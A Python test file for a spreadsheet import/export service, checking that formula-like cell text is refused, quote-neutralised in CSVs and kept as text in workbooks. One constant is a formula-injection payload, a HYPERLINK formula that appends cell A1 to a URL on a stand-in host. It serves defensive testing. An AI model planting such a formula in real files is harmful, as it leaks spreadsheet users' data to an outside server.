"""Formula-like text: refused in names, neutralised in every CSV file, exact in the exchange
format's round trip, and text in every workbook."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.cells import FORMULA_STARTS, is_formula
from domain.dataset import Dataset
from domain.tables import TABLES, ColumnType
from services.exchange.formulas import neutralise, restore
from services.exchange.reading import read_dataset
from services.exchange.writing import write_dataset
from tests.support.factory import add, ledger_dataset, small_dataset, values_of

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"点此")'
ORG_HEADER = "id,name,kind,parent_id\n"


@given(st.text())
def test_neutralised_text_is_never_a_formula_and_restores_exactly(text: str) -> None:
    assert not is_formula(neutralise(text))
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("value", [-3, 0, 12, 2.5, None])
def test_numbers_and_empty_cells_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def test_only_what_could_run_or_be_misread_gets_a_quote() -> None:
    assert [neutralise(t) for t in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"
    ]  # fmt: skip
    assert neutralise("'=1") == "''=1"  # so that restore gives back exactly "'=1"
    assert neutralise("''x") == "'" + "''x"
    assert [neutralise(t) for t in ("O000123", "东风村", "2024-01-01", "'x", "x=1")] == [
        "O000123", "东风村", "2024-01-01", "'x", "x=1"
    ]  # fmt: skip


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r\n@", " ="])
def test_a_name_starting_like_a_formula_is_refused_with_where_it_is(
    make_csv_folder, start: str
) -> None:
    name = f"{start}SUM(A1)"
    quoted = '"' + name.replace('"', '""') + '"'
    folder = make_csv_folder({"organisations.csv": ORG_HEADER + f"C1,{quoted},COMMITTEE,\n"})
    _, problems = read_dataset(folder)
    (problem,) = problems
    shown = name.strip()  # leading spaces, tabs and line breaks are trimmed from every cell
    assert (problem.source, problem.line, problem.column, problem.value, problem.code) == (
        "organisations.csv", 2, "name", shown, "formula"
    )  # fmt: skip
    assert problem.message("zh").startswith(f"organisations.csv 第2行 “name” 值“{shown}”：")
    assert "公式" in problem.message("zh")
    assert "would run as a spreadsheet formula" in problem.message("en")
    assert "\n" not in problem.message("en")


def test_the_reported_hyperlink_is_refused_in_a_workbook_too(make_workbook) -> None:
    header = ["组织编码", "组织名称", "组织类别"]
    path = make_workbook({"党组织": [header, ["C1", HYPERLINK, "党委"]]})
    cell = openpyxl.load_workbook(path)["党组织"]["B2"]
    cell.data_type = "s"  # a text cell holding the formula's text, as a hostile file would
    cell.parent.parent.save(path)
    _, problems = read_dataset(path)
    assert [(p.source, p.line, p.column, p.value, p.code) for p in problems] == [
        ("党组织", 2, "组织名称", HYPERLINK, "formula")
    ]


def test_ids_phones_and_ordinary_names_are_accepted(make_csv_folder) -> None:
    folder = make_csv_folder({
        "organisations.csv": ORG_HEADER + "-1,县委 - 办公室,COMMITTEE,\n",
        "people.csv": "id,name,home_id,phone\nP1,张三,-1,+86 138-0000-0000\n",
    })  # fmt: skip
    dataset, problems = read_dataset(folder)
    assert problems == []
    assert dataset.rows("organisations")[0]["id"] == "-1"
    assert dataset.rows("people")[0]["phone"] == "+86 138-0000-0000"


def _with_formula_like_values() -> Dataset:
    """The small dataset with ids, a phone and a name that a spreadsheet would misread."""
    dataset = ledger_dataset()
    add(dataset, "units", id="=SUM(A1)", name="'=引号", area_id="001")
    add(dataset, "units", id="@U9", name="合作社", area_id="001")
    add(dataset, "people", id="-P9", name="王五", home_id="001", phone="+86 138 0000 0000")
    return dataset


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_exchange_csv_quotes_formula_like_text_and_reads_it_back_exactly(
    tmp_path: Path, lang: str
) -> None:
    dataset = _with_formula_like_values()
    write_dataset(dataset, tmp_path / "first", lang=lang, personal=True)
    files = {p.name: p for p in (tmp_path / "first").iterdir()}
    units = files["units.csv" if lang == "en" else "单位.csv"]
    with units.open(encoding="utf-8-sig", newline="") as handle:
        cells = {cell for row in csv.reader(handle) for cell in row}
    assert {"'=SUM(A1)", "'@U9", "''=引号"} <= cells  # what Excel shows as text
    back, problems = read_dataset(tmp_path / "first")
    assert problems == []
    assert values_of(back) == values_of(_sorted(dataset, back))
    write_dataset(back, tmp_path / "second", lang=lang, personal=True)
    for name, path in files.items():
        assert path.read_bytes() == (tmp_path / "second" / name).read_bytes(), name


def _sorted(dataset: Dataset, like: Dataset) -> Dataset:
    """The dataset's rows in the order `like` holds them (the order an export writes)."""
    ordered = Dataset()
    for name, rows in like.tables.items():
        keys = [tuple(sorted(r.values.items(), key=str)) for r in rows]
        by_key = {tuple(sorted(r.values.items(), key=str)): r for r in dataset.rows(name)}
        ordered.tables[name] = [by_key[k] for k in keys]
    return ordered


def test_exchange_workbook_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_dataset(_with_formula_like_values(), path, personal=True)
    with zipfile.ZipFile(path) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist())
    cells = [c for s in openpyxl.load_workbook(path) for r in s.iter_rows() for c in r]
    assert {c.value for c in cells} >= {"=SUM(A1)", "@U9", "-P9", "+86 138 0000 0000"}
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    back, problems = read_dataset(path)
    assert problems == []
    assert values_of(back) == values_of(_sorted(_with_formula_like_values(), back))


def test_a_name_stored_before_the_rule_is_refused_when_its_export_is_loaded(
    tmp_path: Path,
) -> None:
    dataset = ledger_dataset()
    dataset.rows("units")[0].values["name"] = HYPERLINK
    write_dataset(dataset, tmp_path)
    with (tmp_path / "units.csv").open(encoding="utf-8-sig") as handle:
        assert f"'{HYPERLINK}" in list(csv.reader(handle))[1]
    _, problems = read_dataset(tmp_path)
    assert [(p.source, p.column, p.value, p.code) for p in problems] == [
        ("units.csv", "name", HYPERLINK, "formula")
    ]


@pytest.mark.parametrize("dataset", [ledger_dataset(), small_dataset()], ids=["ledger", "small"])
def test_the_test_datasets_hold_no_formula_like_text(dataset: Dataset) -> None:
    for table in TABLES:
        for row in dataset.rows(table.name):
            for column in table.columns:
                value = row[column.name]
                assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS)), value
                if column.type is ColumnType.TEXT:
                    assert value is None or not is_formula(str(value))
